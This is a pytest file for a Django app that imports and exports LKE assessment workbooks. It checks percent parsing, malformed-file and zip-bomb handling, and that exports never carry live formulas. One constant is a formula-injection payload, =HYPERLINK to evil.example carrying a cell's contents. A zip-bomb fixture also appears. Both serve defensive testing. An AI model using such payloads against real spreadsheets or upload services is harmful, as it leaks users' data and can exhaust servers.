"""The LKE web import and exports, bounded: % cells as the official LKE holds them (F1), malformed files as
messages, parsing outside the row lock, and no live formula in any workbook Zona writes."""

from __future__ import annotations

import dataclasses
import io
from fractions import Fraction

import pytest
from django.core.exceptions import ValidationError
from django.db.models import QuerySet
from django.urls import reverse
from openpyxl import load_workbook

from tests.assessments.helpers import assessment_of, open_period
from tests.assessments.test_exports_support import fill, finalise, review
from tests.assessments.test_import import _export, _token, _upload
from tests.conftest import best_raw
from tests.xlsx_craft import lke_sheet, with_sheet, zip_bomb
from zona.assessments.forms_review import stage_value
from zona.assessments.forms_worksheet import posted_answer
from zona.assessments.selectors.core import assessment_score, engine_for
from zona.assessments.services import answers as answer_services
from zona.assessments.services.answers import answer_save
from zona.lke.answers import InvalidAnswer, parse_answer
from zona.lke.excel import COL, SHEET_TITLE

pytestmark = pytest.mark.django_db


def test_a_best_answered_sheet_with_percent_cells_as_fractions_imports_to_100(regency, client):
    assessment = assessment_of(open_period(regency), regency.unit_a)
    framework = engine_for(assessment)
    client.force_login(regency.operator_a)
    workbook = load_workbook(io.BytesIO(_export(client, assessment)))
    sheet = workbook[SHEET_TITLE]
    best = best_raw(framework)
    for row in sheet.iter_rows(min_row=5):
        code = row[0].value
        if code not in framework.items:
            continue
        cell = row[COL["Jawaban"] - 1]
        if framework.answer_type(framework.items[code]).kind == "percent":
            cell.value, cell.number_format = 1.0, "0.00%"  # "100,00 %" as the official LKE stores it
        else:
            cell.value = best[code]
    stream = io.BytesIO()
    workbook.save(stream)
    preview = _upload(client, assessment, stream.getvalue())
    assert (
        preview.status_code == 200
        and f"{len(framework.items)} butir akan berubah" in preview.content.decode()
    )
    applied = client.post(
        reverse("assessments:import_xlsx", kwargs={"pk": assessment.pk}), {"token": _token(preview)}
    )
    assert applied.status_code == 302
    assert assessment_score(assessment).total == 100


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"bukan excel", "isinya bukan lembar kerja Excel (.xlsx)"),
        (with_sheet(lke_sheet(['<c r="F5" t="s"><v>42</v></c>'])), "lembar LKE, sel F5: teks bersama"),
        (
            with_sheet(lke_sheet(['<c r="F5" t="n"><v>Ya</v></c>'])),
            "lembar LKE, sel F5: isi sel tidak sesuai",
        ),
        (
            with_sheet(lke_sheet(['<c r="F5" t="d"><v>kemarin</v></c>'])),
            "lembar LKE, sel F5: isi sel tidak sesuai",
        ),
        (zip_bomb(80), "berkas terlalu besar setelah dibuka (80 MB"),
    ],
)
def test_a_malformed_sheet_is_a_message_on_the_preview_never_a_500(regency, client, content, expected):
    assessment = assessment_of(open_period(regency), regency.unit_a)
    client.force_login(regency.operator_a)
    response = _upload(client, assessment, content)
    assert response.status_code == 200
    page = response.content.decode()
    assert expected in page and 'name="token"' not in page


def test_the_answer_is_parsed_before_the_assessment_row_is_locked(regency, monkeypatch):
    assessment = assessment_of(open_period(regency), regency.unit_a)
    events: list[str] = []
    real_parse, real_lock = answer_services.parse_answer, QuerySet.select_for_update

    def parse(*args, **kwargs):
        events.append("parse")
        return real_parse(*args, **kwargs)

    def lock(self, *args, **kwargs):
        events.append(f"lock {self.model.__name__}")
        return real_lock(self, *args, **kwargs)

    monkeypatch.setattr(answer_services, "parse_answer", parse)
    monkeypatch.setattr(QuerySet, "select_for_update", lock)
    with pytest.raises(ValidationError, match="pangkat 100000000 di luar batas"):
        answer_save(
            assessment=assessment,
            item_code="A.II.4.i",
            value={"percent": "1e100000000"},
            actor=regency.operator_a,
        )
    assert events[:2] == ["parse", "lock Assessment"]


@pytest.mark.parametrize(
    ("narrative", "expected"), [("ba\x00ik", "karakter NUL"), ("x" * 20_001, "terlalu panjang")]
)
def test_a_narrative_with_nul_or_too_long_is_refused_not_a_database_error(regency, narrative, expected):
    assessment = assessment_of(open_period(regency), regency.unit_a)
    with pytest.raises(ValidationError, match=expected):
        answer_save(
            assessment=assessment,
            item_code="A.I.1.i.a",
            value="Ya",
            narrative=narrative,
            actor=regency.operator_a,
        )


def test_the_web_form_reads_a_typed_percentage_as_a_percentage(lke2021):
    # a % item answered directly (no Jumlah inputs): the field is labelled %, so "1" is 1 %, never 100 %
    item = dataclasses.replace(lke2021.items["A.II.4.i"], inputs=(), formula=None)
    for typed, expected in (
        ("1", 1),
        ("87,5", Fraction(175, 2)),
        ("100%", 100),
        ("100,00 %", 100),
        ("0,5", Fraction(1, 2)),
    ):
        posted = posted_answer(lke2021, item, {"value": typed})["value"]
        assert parse_answer(lke2021, item, posted) == {"percent": expected}, typed
        staged = stage_value(lke2021, item, {"value": typed})
        assert parse_answer(lke2021, item, staged) == {"percent": expected}, typed
    assert posted_answer(lke2021, item, {"value": " "})["value"] == ""
    with pytest.raises(InvalidAnswer, match="pangkat 100000000 di luar batas"):
        parse_answer(lke2021, item, posted_answer(lke2021, item, {"value": "1e100000000"})["value"])


def test_the_worksheet_refuses_a_huge_exponent_in_an_input_with_a_400(regency, client):
    assessment = assessment_of(open_period(regency), regency.unit_a)
    client.force_login(regency.operator_a)
    url = reverse("assessments:answer_save", kwargs={"pk": assessment.pk, "code": "A.II.4.i"})
    item = engine_for(assessment).items["A.II.4.i"]
    data = {f"input_{entry.key}": "1e100000000" for entry in item.inputs}
    response = client.post(url, {**data, "version": "0"})
    assert response.status_code == 400 and "pangkat 100000000 di luar batas" in response.content.decode()
    assert not assessment.answers.filter(item_code="A.II.4.i").exists()


ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


def _formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_no_exported_workbook_holds_a_formula_even_with_formula_like_names(regency, client):
    regency.unit_a.name = ATTACK
    regency.unit_a.save()
    period = open_period(regency, units=[regency.unit_a, regency.unit_b])
    assessment = assessment_of(period, regency.unit_a)
    fill(assessment, regency.operator_a)
    answer_save(
        assessment=assessment,
        item_code="A.I.1.i.a",
        value="Ya",
        narrative="@SUM(1+1)",
        actor=regency.operator_a,
    )
    review(assessment, period, regency.evaluator)
    finalise(assessment, period)
    client.force_login(regency.koordinator)
    downloads = {
        "lke": reverse("assessments:export_xlsx", kwargs={"pk": assessment.pk}),
        "lke-tpi": reverse("assessments:export_xlsx", kwargs={"pk": assessment.pk}) + "?lapis=tpi",
        "rekap": reverse("assessments:period_recap_xlsx", kwargs={"pk": period.pk}),
    }
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, name
        content = b"".join(response.streaming_content)
        assert _formula_cells(content) == [], name
        texts = {
            cell.value
            for sheet in load_workbook(io.BytesIO(content)).worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        }
        assert any(ATTACK in text for text in texts), name  # still there, as text
